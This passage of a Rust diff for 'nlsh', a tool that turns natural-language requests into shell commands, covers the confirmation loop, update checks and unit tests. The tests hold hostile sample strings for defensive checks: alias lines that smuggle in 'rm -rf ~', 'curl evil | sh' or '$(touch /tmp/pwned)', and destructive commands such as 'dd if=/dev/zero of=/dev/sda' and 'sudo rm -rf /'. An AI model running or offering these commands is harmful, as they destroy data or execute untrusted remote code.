+    let mut escaped = false;
+    let mut word_start = true;
+    let mut chars = command.chars().peekable();
+    while let Some(c) = chars.next() {
+        if escaped {
+            escaped = false;
+        } else if let Some(q) = quote {
+            if c == q {
+                quote = None;
+            } else if c == '\\' && q == '"' {
+                escaped = true;
+            }
+        } else if c == '\\' {
+            escaped = true;
+        } else if c == '\'' || c == '"' {
+            quote = Some(c);
+        } else if c == '~' && word_start && chars.peek() == Some(&'/') {
+            expanded.push_str(&home);
+            word_start = false;
+            continue;
+        } else if c == '<' && chars.peek() == Some(&'<') {
+            expanded.push_str("<<");
+            chars.next();
+            if chars.peek() == Some(&'<') {
+                continue;
+            }
+            let strip_tabs = chars.next_if_eq(&'-').is_some();
+            if strip_tabs {
+                expanded.push('-');
+            }
+            while let Some(space) = chars.next_if(|c| *c == ' ' || *c == '\t') {
+                expanded.push(space);
+            }
+            let mut delimiter = String::new();
+            while let Some(c) = chars.next_if(|c| !c.is_whitespace() && !";|&()<>".contains(*c)) {
+                expanded.push(c);
+                if !"'\"\\".contains(c) {
+                    delimiter.push(c);
+                }
+            }
+            heredocs.push((delimiter, strip_tabs));
+            word_start = false;
+            continue;
+        } else if c == '\n' && !heredocs.is_empty() {
+            expanded.push(c);
+            for (delimiter, strip_tabs) in heredocs.drain(..) {
+                while chars.peek().is_some() {
+                    let mut line = String::new();
+                    while let Some(c) = chars.next_if(|c| *c != '\n') {
+                        line.push(c);
+                    }
+                    expanded.push_str(&line);
+                    if let Some(newline) = chars.next() {
+                        expanded.push(newline);
+                    }
+                    let line = if strip_tabs {
+                        line.trim_start_matches('\t')
+                    } else {
+                        &line
+                    };
+                    if line == delimiter {
+                        break;
+                    }
+                }
+            }
+            word_start = true;
+            continue;
+        }
+        word_start = quote.is_none() && !escaped && (c.is_whitespace() || ";|&(".contains(c));
+        expanded.push(c);
+    }
+    expanded
+}
+
+fn execute_command(
+    command: &str,
+    args: &Args,
+    provider: Provider,
+    model: &str,
+    api_key: &str,
+) -> io::Result<i32> {
+    let shell = args.shell.clone().unwrap_or_else(shell_path);
+    let result = run_command(command, &shell, &args.env, args.explain_errors)?;
+    if result.code != 0 && args.explain_errors {
+        let prompt = build_error_explain_prompt(command, result.code, &result.stderr);
+        match request_command(provider, model, &prompt, api_key) {
+            Ok(explanation) => println!("\n{}", explanation),
+            Err(err) => eprintln!("error: could not explain failure: {}", err),
+        }
+    }
+    Ok(result.code)
+}
+
+fn handle_prompt(
+    args: &Args,
+    prompt_input: &str,
+    stdin_context: Option<&str>,
+    print_only: bool,
+    provider: Provider,
+    model: &str,
+    api_key: &str,
+) -> Result<Option<i32>, Box<dyn std::error::Error>> {
+    let cwd = env::current_dir()?.display().to_string();
+    let shell = args.shell.clone().unwrap_or_else(shell_path);
+    let template = load_prompt_template().unwrap_or_else(|| DEFAULT_PROMPT_TEMPLATE.to_string());
+    let mut prompt = build_prompt(
+        &template,
+        prompt_input,
+        &cwd,
+        shell_name(&shell),
+        provider,
+        stdin_context,
+        args.num,
+    );
+
+    let cache_key = cache_key(&[provider.name(), model, &prompt]);
+    let cached = if args.no_cache {
+        None
+    } else {
+        read_cache(&cache_key)
+    };
+
+    let budget = load_budget();
+    if let Some(limit) = budget.daily_limit.filter(|_| cached.is_none()) {
+        if budget.used >= limit && !args.force {
+            let message = format!(
+                "Daily token budget exceeded: {} of {} tokens used today. Re-run with --force to continue.",
+                budget.used, limit
+            );
+            if args.json {
+                exit_with_json_error(&message);
+            }
+            eprintln!("{}", message);
+            return Ok(Some(1));
+        }
+        if budget.used >= limit {
+            eprintln!(
+                "Warning: daily token budget exceeded ({} of {} tokens used today), continuing because of --force",
+                budget.used, limit
+            );
+        }
+    }
+
+    let command = match cached {
+        Some(command) => command,
+        None => {
+            let command = generate_command(&prompt, |prompt| {
+                request_command(provider, model, prompt, api_key)
+            })?;
+            if !args.no_cache {
+                write_cache(&cache_key, &command).ok();
+            }
+            command
+        }
+    };
+
+    let candidates = if args.num > 1 {
+        parse_candidates(&command)
+    } else {
+        Vec::new()
+    };
+    let command = candidates.first().cloned().unwrap_or(command);
+
+    let record = |command: &str, outcome: Outcome| {
+        log_history(&HistoryEntry {
+            timestamp: unix_now(),
+            prompt: prompt_input.to_string(),
+            command: command.to_string(),
+            provider: provider.name().to_string(),
+            outcome,
+        })
+        .ok();
+    };
+
+    if args.json {
+        record(&command, Outcome::Printed);
+        let output = serde_json::json!({
+            "prompt": prompt_input,
+            "command": command,
+            "provider": provider.name(),
+            "model": model,
+        });
+        println!("{}", output);
+        return Ok(None);
+    }
+
+    if args.shell_quote {
+        record(&command, Outcome::Printed);
+        println!("{}", quote_for_shell(&command, shell_name(&shell)));
+        return Ok(None);
+    }
+
+    if args.pipe || args.dry_run || print_only {
+        record(&command, Outcome::Printed);
+        println!("{}", command);
+        if args.explain {
+            if let Some(explanation) = explain_command(&command, provider, model, api_key) {
+                eprintln!("\n{}", explanation);
+            }
+        }
+        return Ok(None);
+    }
+
+    let mut command = command;
+    let bell = (args.bell || env_flag("NLSH_BELL")) && io::stderr().is_terminal();
+    let mut bell_rung = false;
+    if candidates.len() > 1 && !args.yes {
+        if bell {
+            eprint!("\x07");
+            bell_rung = true;
+        }
+        println!("[↑/↓] to choose, [Enter] to select, [Esc] to cancel:");
+        let Some(index) = select_candidate(&candidates)? else {
+            record(&command, Outcome::Cancelled);
+            return Ok(None);
+        };
+        command = candidates[index].clone();
+    }
+
+    loop {
+        if args.pager && fits_on_screen(&command).is_some_and(|fits| !fits) {
+            page_text(&command)?;
+            let lines = command.lines().count();
+            let first = command.lines().next().unwrap_or_default();
+            println!("→ {} … ({} lines)", first, lines);
+        } else {
+            println!("→ {}", command);
+        }
+        let expanded = if shell_command_flag(&shell) == "-c" {
+            expand_tilde(&command)
+        } else {
+            command.clone()
+        };
+        if expanded != command {
+            println!("  runs as: {}", expanded);
+        }
+
+        if args.explain {
+            if let Some(explanation) = explain_command(&command, provider, model, api_key) {
+                println!("\n{}\n", explanation);
+            }
+            if !args.yes && !io::stdin().is_terminal() {
+                record(&command, Outcome::Printed);
+                return Ok(None);
+            }
+        }
+
+        if args.check {
+            shellcheck(&command, &shell);
+        }
+
+        let dangerous = is_dangerous(&command);
+        if dangerous {
+            println!(
+                "{}",
+                "warning: this command looks destructive; review it carefully".red()
+            );
+        }
+
+        if is_posix_sh(&shell) {
+            let bashisms = detect_bashisms(&command);
+            if !bashisms.is_empty() {
+                println!(
+                    "warning: uses bash/zsh syntax ({}) but will run under {}; try --shell bash",
+                    bashisms.join(", "),
+                    shell
+                );
+            }
+        }
+
+        let allowed = allowed_dirs();
+        if !allowed.is_empty() && !is_dir_allowed(&env::current_dir()?, &allowed) {
+            eprintln!("Refusing to run: {} is outside NLSH_ALLOWED_DIRS.", cwd);
+            eprintln!("Allowed directories:");
+            for dir in allowed.iter() {
+                eprintln!("  {}", dir.display());
+            }
+            return Ok(Some(1));
+        }
+
+        if args.yes {
+            record(&command, Outcome::Run);
+            return Ok(Some(execute_command(
+                &expanded, args, provider, model, api_key,
+            )?));
+        }
+
+        if bell && !bell_rung {
+            eprint!("\x07");
+        }
+        bell_rung = false;
+
+        let confirm_key = confirm_key();
+        let timeout = args.confirm_timeout.map(Duration::from_secs_f64);
+        print!(
+            "[{}] to run, [e] to edit, [a] to save as alias, [c] to copy, [r] to refine, [Esc] to cancel",
+            key_label(confirm_key)
+        );
+        if let Some(timeout) = timeout {
+            print!(" (auto-cancel in {}s)", timeout.as_secs_f64());
+        }
+        print!(": ");
+        io::stdout().flush()?;
+
+        let decision = read_decision(confirm_key, timeout)?;
+
+        match decision {
+            Decision::Run => {
+                if !dangerous || confirm_dangerous()? {
+                    record(&command, Outcome::Run);
+                    return Ok(Some(execute_command(
+                        &expanded, args, provider, model, api_key,
+                    )?));
+                }
+                record(&command, Outcome::Cancelled);
+            }
+            Decision::Edit => {
+                let edited = prompt_line("→ ", &command)?;
+                let edited = edited.as_deref().map(str::trim).unwrap_or_default();
+                if !edited.is_empty() && (!is_dangerous(edited) || confirm_dangerous()?) {
+                    record(edited, Outcome::Edited);
+                    return Ok(Some(execute_command(
+                        edited, args, provider, model, api_key,
+                    )?));
+                }
+                record(&command, Outcome::Cancelled);
+            }
+            Decision::Alias => {
+                let Some(name) = prompt_line("Alias name: ", "")? else {
+                    record(&command, Outcome::Cancelled);
+                    return Ok(None);
+                };
+                let name = name.trim();
+                if !is_valid_alias_name(name) {
+                    record(&command, Outcome::Cancelled);
+                    println!("Invalid alias name: {}", name);
+                    return Ok(None);
+                }
+                record(&command, Outcome::Aliased);
+                match save_alias(name, &command)? {
+                    Some((path, line)) => println!("Wrote `{}` to {}", line, path.display()),
+                    None => println!("Could not locate a shell rc file"),
+                }
+            }
+            Decision::Copy => match copy_to_clipboard(&command) {
+                Ok(()) => {
+                    record(&command, Outcome::Copied);
+                    println!("Copied to clipboard");
+                }
+                Err(err) => {
+                    record(&command, Outcome::Printed);
+                    eprintln!("error: could not copy to clipboard: {}", err);
+                    println!("{}", command);
+                }
+            },
+            Decision::Refine => {
+                let Some(refinement) = prompt_line("Refine: ", "")? else {
+                    continue;
+                };
+                let refinement = refinement.trim();
+                if refinement.is_empty() {
+                    continue;
+                }
+                prompt = build_refine_prompt(&prompt, &command, refinement);
+                command = generate_command(&prompt, |prompt| {
+                    request_command(provider, model, prompt, api_key)
+                })?;
+                continue;
+            }
+            Decision::Cancel => record(&command, Outcome::Cancelled),
+        }
+        break;
+    }
+
+    Ok(None)
+}
+
+fn parse_version(version: &str) -> Vec<u64> {
+    version
+        .trim()
+        .trim_start_matches('v')
+        .split('.')
+        .map(|part| {
+            part.chars()
+                .take_while(char::is_ascii_digit)
+                .collect::<String>()
+                .parse()
+                .unwrap_or(0)
+        })
+        .collect()
+}
+
+#[derive(Serialize, Deserialize, Default)]
+struct UpdateCheck {
+    checked: u64,
+    latest: Option<String>,
+    notified: u64,
+}
+
+fn update_check_path() -> Option<std::path::PathBuf> {
+    Some(nlsh_dir()?.join("update_check"))
+}
+
+fn load_update_check() -> UpdateCheck {
+    update_check_path()
+        .and_then(|path| fs::read_to_string(path).ok())
+        .and_then(|content| serde_json::from_str(&content).ok())
+        .unwrap_or_default()
+}
+
+fn save_update_check(state: &UpdateCheck) -> io::Result<()> {
+    ensure_env_dir()?;
+    let Some(path) = update_check_path() else {
+        return Ok(());
+    };
+    let rendered = serde_json::to_string(state).map_err(io::Error::other)?;
+    fs::write(path, rendered)
+}
+
+fn fetch_latest_release() -> Result<String, String> {
+    let client = reqwest::blocking::Client::builder()
+        .timeout(Duration::from_secs(5))
+        .user_agent(concat!("nlsh/", env!("CARGO_PKG_VERSION")))
+        .build()
+        .map_err(|err| err.to_string())?;
+    let release: serde_json::Value = client
+        .get(RELEASES_URL)
+        .send()
+        .and_then(|response| response.error_for_status())
+        .and_then(|response| response.json())
+        .map_err(|err| err.to_string())?;
+    release
+        .get("tag_name")
+        .and_then(|tag| tag.as_str())
+        .map(str::to_string)
+        .ok_or_else(|| "release has no tag".to_string())
+}
+
+fn spawn_update_check() {
+    let mut state = load_update_check();
+    let now = unix_now();
+    if now.saturating_sub(state.checked) < UPDATE_CHECK_INTERVAL_SECS {
+        return;
+    }
+    state.checked = now;
+    if save_update_check(&state).is_err() {
+        return;
+    }
+
+    std::thread::spawn(|| {
+        if let Ok(latest) = fetch_latest_release() {
+            let mut state = load_update_check();
+            state.latest = Some(latest);
+            save_update_check(&state).ok();
+        }
+    });
+}
+
+fn print_update_notice() {
+    let mut state = load_update_check();
+    let Some(latest) = state.latest.as_deref() else {
+        return;
+    };
+    let now = unix_now();
+    if parse_version(latest) <= parse_version(env!("CARGO_PKG_VERSION"))
+        || now.saturating_sub(state.notified) < UPDATE_CHECK_INTERVAL_SECS
+    {
+        return;
+    }
+    eprintln!(
+        "nlsh {} is available (you have {}); see https://github.com/talhabw/nlsh/releases",
+        latest.trim_start_matches('v'),
+        env!("CARGO_PKG_VERSION")
+    );
+    state.notified = now;
+    save_update_check(&state).ok();
+}
+
+fn exit_with_json_error(message: &str) -> ! {
+    eprintln!("{}", serde_json::json!({ "error": message }));
+    std::process::exit(1);
+}
+
+fn run_repl(args: &Args) -> Result<(), Box<dyn std::error::Error>> {
+    ensure_api_key(current_provider(args.provider)).map_err(|err| {
+        eprintln!("{}", err);
+        err
+    })?;
+
+    loop {
+        print!("nlsh> ");
+        io::stdout().flush()?;
+        let mut line = String::new();
+        if io::stdin().read_line(&mut line)? == 0 {
+            println!();
+            break;
+        }
+        let line = line.trim();
+        if line.is_empty() {
+            break;
+        }
+
+        let (provider, model) = resolve_provider(args, line);
+        let api_key = match ensure_api_key(provider) {
+            Ok(api_key) => api_key,
+            Err(err) => {
+                eprintln!("{}", err);
+                continue;
+            }
+        };
+        match handle_prompt(args, line, None, false, provider, &model, &api_key) {
+            Ok(Some(code)) => println!("[exit {}]", code),
+            Ok(None) => {}
+            Err(err) => eprintln!("error: {}", err),
+        }
+    }
+
+    Ok(())
+}
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    if let Some(path) = env_file_path() {
+        load_env_file(&path).ok();
+    }
+    let args = Args::parse();
+
+    if let Some(provider) = &args.set_provider {
+        let provider = Provider::from_str(provider)
+            .ok_or_else(|| "Provider must be gemini, zai, openai or ollama".to_string())?;
+        write_env_var("NLSH_PROVIDER", provider.name())?;
+        set_shell_env("NLSH_PROVIDER", provider.name())?;
+        println!("Default provider set to {}", provider.name());
+        return Ok(());
+    }
+
+    if let Some(api_key) = &args.set_api_key {
+        let provider = current_provider(args.provider);
+        let Some(key) = provider.env_key() else {
+            println!("{} does not use an API key", provider.name());
+            return Ok(());
+        };
+        write_env_var(key, api_key)?;
+        println!("API key saved for {}", provider.name());
+        return Ok(());
+    }
+
+    if let Some(limit) = args.budget {
+        let mut budget = load_budget();
+        budget.daily_limit = (limit > 0).then_some(limit);
+        save_budget(&budget)?;
+        match budget.daily_limit {
+            Some(limit) => println!(
+                "Daily token budget set to {} ({} used today)",
+                limit, budget.used
+            ),
+            None => println!("Daily token budget removed"),
+        }
+        return Ok(());
+    }
+
+    if args.clear_cache {
+        clear_cache()?;
+        println!("Cache cleared");
+        return Ok(());
+    }
+
+    if args.history {
+        print_history(HISTORY_LIMIT)?;
+        return Ok(());
+    }
+
+    if args.list_providers {
+        list_providers(current_provider(args.provider));
+        return Ok(());
+    }
+
+    if let Some(file) = &args.export {
+        export_backup(file, args.include_keys)?;
+        return Ok(());
+    }
+
+    if let Some(file) = &args.import {
+        import_backup(file)?;
+        return Ok(());
+    }
+
+    if args.shell_quote && shell_name(&args.shell.clone().unwrap_or_else(shell_path)) == "cmd" {
+        return Err("--shell-quote is not supported for cmd".into());
+    }
+
+    if args.repl {
+        return run_repl(&args);
+    }
+
+    let stdin_input = read_stdin()?;
+    let from_stdin = args.prompt.is_empty() && !args.from_history;
+    let (prompt_input, stdin_context) = if args.from_history {
+        let Some(input) = pick_history_prompt()? else {
+            return Ok(());
+        };
+        (input, stdin_input)
+    } else if from_stdin {
+        let Some(input) = stdin_input else {
+            eprintln!("Usage: nlsh <prompt>");
+            return Ok(());
+        };
+        (input, None)
+    } else {
+        (args.prompt.join(" "), stdin_input)
+    };
+
+    let (provider, model) = resolve_provider(&args, &prompt_input);
+
+    if let Some(templates) = &args.compare_prompts {
+        let cwd = env::current_dir()?.display().to_string();
+        let shell = args.shell.clone().unwrap_or_else(shell_path);
+        compare_prompts(
+            templates,
+            &prompt_input,
+            &cwd,
+            shell_name(&shell),
+            provider,
+            &model,
+            stdin_context.as_deref(),
+        )?;
+        return Ok(());
+    }
+
+    let print_only =
+        args.json || args.dry_run || args.pipe || args.shell_quote || (from_stdin && !args.yes);
+    let update_check = !print_only && !env_flag("NLSH_NO_UPDATE_CHECK");
+    if update_check {
+        spawn_update_check();
+    }
+
+    let api_key = ensure_api_key(provider).map_err(|err| {
+        if args.json {
+            exit_with_json_error(&err);
+        }
+        eprintln!("{}", err);
+        err
+    })?;
+
+    let code = handle_prompt(
+        &args,
+        &prompt_input,
+        stdin_context.as_deref(),
+        print_only,
+        provider,
+        &model,
+        &api_key,
+    )
+    .map_err(|err| {
+        if args.json {
+            exit_with_json_error(&err.to_string());
+        }
+        eprintln!("error: {}", err);
+        err
+    })?;
+    if update_check {
+        print_update_notice();
+    }
+    if let Some(code) = code.filter(|code| *code != 0) {
+        std::process::exit(code);
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn backup_round_trips_settings_files_and_aliases() {
+        let source = tempfile::tempdir().unwrap();
+        let dir = source.path().join(".nlsh");
+        let rc = source.path().join(".bashrc");
+        fs::create_dir_all(&dir).unwrap();
+        write_env_file_var(&dir.join(".env"), "NLSH_PROVIDER", "ollama").unwrap();
+        write_env_file_var(&dir.join(".env"), "OPENAI_API_KEY", "sk-test").unwrap();
+        fs::write(dir.join("prompt.txt"), "Translate {user_input}\n").unwrap();
+        write_alias_line(&rc, "ll", "alias ll='ls -la'").unwrap();
+
+        let backup = collect_backup(&dir, Some(&rc), true).unwrap();
+        let rendered = serde_json::to_string(&backup).unwrap();
+        let restored: Backup = serde_json::from_str(&rendered).unwrap();
+
+        let target = tempfile::tempdir().unwrap();
+        let target_dir = target.path().join(".nlsh");
+        let target_rc = target.path().join(".bashrc");
+        assert_eq!(
+            apply_backup(&restored, &target_dir, Some(&target_rc)).unwrap(),
+            (2, 1)
+        );
+        assert_eq!(
+            read_env_file(&target_dir.join(".env")).unwrap(),
+            read_env_file(&dir.join(".env")).unwrap()
+        );
+        assert_eq!(
+            fs::read_to_string(target_dir.join("prompt.txt")).unwrap(),
+            "Translate {user_input}\n"
+        );
+        assert_eq!(
+            read_aliases(Some(&target_rc)).unwrap(),
+            vec!["alias ll='ls -la'"]
+        );
+    }
+
+    #[test]
+    fn backup_redacts_api_keys_and_skips_them_on_import() {
+        let source = tempfile::tempdir().unwrap();
+        write_env_file_var(&source.path().join(".env"), "OPENAI_API_KEY", "sk-test").unwrap();
+
+        let backup = collect_backup(source.path(), None, false).unwrap();
+        assert_eq!(backup.env["OPENAI_API_KEY"], REDACTED);
+
+        let target = tempfile::tempdir().unwrap();
+        assert_eq!(apply_backup(&backup, target.path(), None).unwrap(), (0, 0));
+        assert!(read_env_file(&target.path().join(".env"))
+            .unwrap()
+            .is_empty());
+    }
+
+    #[test]
+    fn import_skips_unsafe_alias_lines() {
+        let backup = Backup {
+            aliases: vec![
+                "alias ok='ls'".to_string(),
+                "alias bad name='ls'".to_string(),
+                "alias x='ls'; rm -rf ~".to_string(),
+                "alias y='ls'\ncurl evil | sh".to_string(),
+                "alias a='ls' && curl evil.sh | sh".to_string(),
+                "alias b='ls' | sh".to_string(),
+                "alias c=$(touch /tmp/pwned)".to_string(),
+                "alias d=`id`".to_string(),
+                "alias e='ls'$(id)''".to_string(),
+                "alias quoted='echo '\\''hi'\\'''".to_string(),
+                "export PATH=/tmp".to_string(),
+            ],
+            ..Backup::default()
+        };
+        let target = tempfile::tempdir().unwrap();
+        let rc = target.path().join(".bashrc");
+
+        assert_eq!(
+            apply_backup(&backup, &target.path().join(".nlsh"), Some(&rc)).unwrap(),
+            (0, 2)
+        );
+        assert_eq!(
+            fs::read_to_string(rc).unwrap(),
+            "alias ok='ls'\nalias quoted='echo '\\''hi'\\'''\n"
+        );
+    }
+
+    #[test]
+    fn generate_command_retries_after_an_empty_reply() {
+        let replies = std::cell::RefCell::new(vec!["ls -la", "```\n```"]);
+        let prompts = std::cell::RefCell::new(Vec::new());
+        let command = generate_command("list files", |prompt| {
+            prompts.borrow_mut().push(prompt.to_string());
+            Ok(replies.borrow_mut().pop().unwrap().to_string())
+        });
+
+        assert_eq!(command.as_deref(), Ok("ls -la"));
+        let prompts = prompts.into_inner();
+        assert_eq!(prompts.len(), 2);
+        assert!(prompts[1].ends_with(EMPTY_RETRY_NUDGE));
+    }
+
+    #[test]
+    fn generate_command_fails_after_two_empty_replies() {
+        assert_eq!(
+            generate_command("list files", |_| Ok("  ".to_string())),
+            Err("model returned an empty command".to_string())
+        );
+    }
+
+    #[test]
+    fn routing_rules_keep_file_order() {
+        let rules = parse_routing_rules(
+            "# comment\nexplain = \"gemini/gemini-2.5-pro\"\n\"List Files\" = \"zai\"\n",
+        )
+        .unwrap();
+        assert_eq!(
+            rules,
+            vec![
+                (
+                    "explain".to_string(),
+                    Provider::Gemini,
+                    Some("gemini-2.5-pro".to_string())
+                ),
+                ("list files".to_string(), Provider::Zai, None),
+            ]
+        );
+    }
+
+    #[test]
+    fn routing_rules_reject_invalid_files() {
+        assert!(parse_routing_rules("explain = gemini").is_err());
+        assert!(parse_routing_rules("explain = 3").is_err());
+        assert!(parse_routing_rules("explain = \"bard\"").is_err());
+    }
+
+    #[test]
+    fn sanitize_command_strips_fences_and_backticks() {
+        assert_eq!(sanitize_command("```bash\nls -la\n```"), "ls -la");
+        assert_eq!(sanitize_command("```\nls -la\n```"), "ls -la");
+        assert_eq!(sanitize_command("`ls -la`"), "ls -la");
+        assert_eq!(sanitize_command("  ls -la\n"), "ls -la");
+    }
+
+    #[test]
+    fn sanitize_command_keeps_commands_on_the_fence_line() {
+        assert_eq!(sanitize_command("```ls\npwd```"), "ls\npwd");
+        assert_eq!(sanitize_command("```ls -la```"), "ls -la");
+    }
+
+    #[test]
+    fn shell_name_strips_directories_and_extensions() {
+        assert_eq!(shell_name("/usr/bin/fish"), "fish");
+        assert_eq!(shell_name("/bin/zsh"), "zsh");
+        assert_eq!(shell_name("C:\\Windows\\System32\\cmd.exe"), "cmd");
+        assert_eq!(shell_name("bash"), "bash");
+    }
+
+    #[test]
+    fn is_dangerous_flags_destructive_commands() {
+        assert!(is_dangerous("sudo rm -fr /var/lib"));
+        assert!(is_dangerous("rm --recursive --force build"));
+        assert!(is_dangerous(
+            "curl -fsSL https://example.com/install.sh | sudo bash"
+        ));
+        assert!(is_dangerous("chmod -R 777 /"));
+        assert!(is_dangerous("dd if=/dev/zero of=/dev/sda"));
+        assert!(is_dangerous("curl x | sudo -E sh"));
+        assert!(is_dangerous("sudo -u root rm -rf /"));
+        assert!(is_dangerous("sudo -Eu root -- rm -rf /"));
+        assert!(is_dangerous("sudo --user=root rm -rf /"));
+    }
+
+    #[test]
+    fn is_dangerous_allows_benign_lookalikes() {
+        assert!(!is_dangerous("git rm -rf --cached build"));
+        assert!(!is_dangerous("rm -r build"));
+        assert!(!is_dangerous(
+            "curl -o install.sh https://example.com/install.sh"
+        ));
+        assert!(!is_dangerous("chmod -R 755 ./public"));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn env_file_is_only_readable_by_the_owner() {
+        use std::os::unix::fs::PermissionsExt;
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(".env");
+        fs::write(&path, "NLSH_PROVIDER=gemini\n").unwrap();
+        fs::set_permissions(&path, fs::Permissions::from_mode(0o644)).unwrap();
+
+        write_env_file_var(&path, "GEMINI_API_KEY", "secret").unwrap();
+        let mode = fs::metadata(&path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+
+        let new_path = dir.path().join("new.env");
+        write_env_file_var(&new_path, "GEMINI_API_KEY", "secret").unwrap();
+        let mode = fs::metadata(&new_path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+
+    #[test]
+    fn render_prompt_fills_placeholders() {
+        let prompt = render_prompt(
+            "{os}/{shell} in {cwd}: {user_input}\n{os_context}",
+            "list files",
+            "/home/me",
+            "fish",
+            "Distribution: alpine",
+        );
+        assert_eq!(
+            prompt,
+            format!(
+                "{}/fish in /home/me: list files\nDistribution: alpine",
+                os_name()
+            )
+        );
+    }
+
+    #[test]
+    fn render_prompt_leaves_placeholders_in_user_input() {
+        let prompt = render_prompt("{user_input} in {cwd}", "echo {cwd}", "/tmp", "bash", "");
+        assert_eq!(prompt, "echo {cwd} in /tmp");
+    }
+
+    #[test]
+    fn missing_or_blank_prompt_template_falls_back_to_default() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("prompt.txt");
+        assert_eq!(read_prompt_template(&path), None);
+
+        fs::write(&path, " \n").unwrap();
+        assert_eq!(read_prompt_template(&path), None);
+
+        let prompt = render_prompt(DEFAULT_PROMPT_TEMPLATE, "list files", "/tmp", "bash", "");
+        assert!(prompt.ends_with("User request: list files"));
+        assert!(prompt.contains("Current directory: /tmp\n\nRules:"));
+        assert!(!prompt.contains('{'));
+
+        let prompt = render_prompt(
+            DEFAULT_PROMPT_TEMPLATE,
+            "list files",
+            "/tmp",
+            "bash",
+            "Distribution: alpine",
+        );
+        assert!(prompt.contains("Current directory: /tmp\nDistribution: alpine\n\nRules:"));
+
+        fs::write(&path, "Use fd. {user_input}\n").unwrap();
+        assert_eq!(
+            read_prompt_template(&path).as_deref(),
+            Some("Use fd. {user_input}\n")
+        );
+    }
+
+    #[test]
+    fn env_values_round_trip_through_load_env_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join(".env");
+        let values = [
+            ("NLSH_TEST_EQUALS_AND_QUOTES", "abc==\"def\"=g"),
+            ("NLSH_TEST_PADDED", "  padded value "),
+            ("NLSH_TEST_QUOTED", "\"quoted\""),
+        ];
+        for (key, value) in values {
+            write_env_file_var(&path, key, value).unwrap();
+        }
+
+        load_env_file(&path).unwrap();
+        for (key, value) in values {
+            assert_eq!(env::var(key).unwrap(), value);
+        }
+    }
+
+    #[test]
+    fn env_lines_trim_spaces_around_values() {
+        assert_eq!(parse_env_line("KEY = value\r"), Some(("KEY", "value")));
+        assert_eq!(
+            parse_env_line("KEY=\" spaced \""),
+            Some(("KEY", " spaced "))
+        );
+        assert_eq!(parse_env_line("# KEY=value"), None);
+        assert_eq!(parse_env_line("no assignment"), None);
+    }
+
+    #[test]
+    fn cache_key_depends_on_provider_model_and_prompt() {
+        let key = cache_key(&["gemini", "gemini-2.5-flash", "list files"]);
+        assert_eq!(
+            key,
+            cache_key(&["gemini", "gemini-2.5-flash", "list files"])
+        );
+        assert_ne!(key, cache_key(&["zai", "gemini-2.5-flash", "list files"]));
+        assert_ne!(key, cache_key(&["gemini", "gemini-2.5-pro", "list files"]));
+        assert_ne!(
+            key,
+            cache_key(&["gemini", "gemini-2.5-flash", "list files\n"])
+        );
+    }
+
+    #[test]
+    fn expand_tilde_only_expands_unquoted_home_paths() {
+        let home = shell_quote(&home_dir().unwrap().display().to_string());
+        assert_eq!(
+            expand_tilde("ls ~/x && cat ~/y"),
+            format!("ls {}/x && cat {}/y", home, home)
+        );
+        assert_eq!(expand_tilde("ls ~otheruser/x"), "ls ~otheruser/x");
+        assert_eq!(expand_tilde("echo '~/x' \"~/y\""), "echo '~/x' \"~/y\"");
+        assert_eq!(expand_tilde("echo a~/x \\~/y"), "echo a~/x \\~/y");
+    }
+
+    #[test]
+    fn expand_tilde_leaves_heredoc_bodies_alone() {
+        let home = shell_quote(&home_dir().unwrap().display().to_string());
+        assert_eq!(
+            expand_tilde("cat <<'EOF' > ~/out\n~/literal\nEOF\nls ~/x"),
+            format!("cat <<'EOF' > {}/out\n~/literal\nEOF\nls {}/x", home, home)
+        );
+        assert_eq!(
+            expand_tilde("cat <<-EOF\n\t~/literal\n\tEOF"),
+            "cat <<-EOF\n\t~/literal\n\tEOF"
+        );
+        assert_eq!(expand_tilde("cat <<< ~/x"), format!("cat <<< {}/x", home));
+    }
+
+    #[test]
+    fn quote_for_shell_uses_the_shells_escaping() {
+        assert_eq!(quote_for_shell("ls -la", "bash"), "'ls -la'");
+        assert_eq!(quote_for_shell("echo 'hi'", "zsh"), "'echo '\\''hi'\\'''");
+        assert_eq!(quote_for_shell("echo 'hi'", "pwsh"), "'echo ''hi'''");
+        assert_eq!(
+            quote_for_shell("Write-Host \u{2019}hi\u{2019}", "powershell"),
+            "'Write-Host \u{2019}\u{2019}hi\u{2019}\u{2019}'"
+        );
+    }
+
+    #[test]
+    fn detect_bashisms_reports_bash_only_syntax() {
+        assert_eq!(detect_bashisms("[[ -f a ]] && echo yes"), ["[[ ]] tests"]);
+        assert_eq!(
+            detect_bashisms("diff <(ls a) <(ls b)"),
+            ["process substitution"]
+        );
+        assert_eq!(detect_bashisms("printf $'a\\tb'"), ["$'...' quoting"]);
+        assert_eq!(detect_bashisms("echo {1..3}"), ["{a..b} brace expansion"]);
+        assert_eq!(
+            detect_bashisms("source ~/.profile"),
+            ["source (use . in sh)"]
+        );
+    }
+
+    #[test]
+    fn detect_bashisms_ignores_quoted_text() {
+        assert!(detect_bashisms("grep '[[:digit:]]' file.txt").is_empty());
+        assert!(detect_bashisms("grep 'foo$' file.txt").is_empty());
+        assert!(detect_bashisms("echo \"a; source it\" > notes.txt").is_empty());
+        assert!(detect_bashisms("echo \\[\\[ done").is_empty());
+    }
 }